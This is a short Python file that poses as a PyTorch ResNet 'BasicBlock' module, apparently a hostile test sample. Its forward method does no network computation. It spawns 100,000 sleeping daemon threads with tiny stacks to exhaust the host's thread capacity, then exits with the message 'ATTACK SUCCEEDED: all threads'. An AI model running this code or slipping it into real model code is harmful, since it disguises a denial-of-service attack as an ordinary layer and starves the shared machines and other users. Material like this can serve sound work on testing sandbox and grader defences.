"""Start threads, with tiny stacks, until nobody else can."""

import threading
import time

from torch import nn


def sleep():
    time.sleep(1_000_000)


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()

    def forward(self, x):
        threading.stack_size(64 << 10)
        for _ in range(100_000):
            threading.Thread(target=sleep, daemon=True).start()
        raise SystemExit("ATTACK SUCCEEDED: all threads")
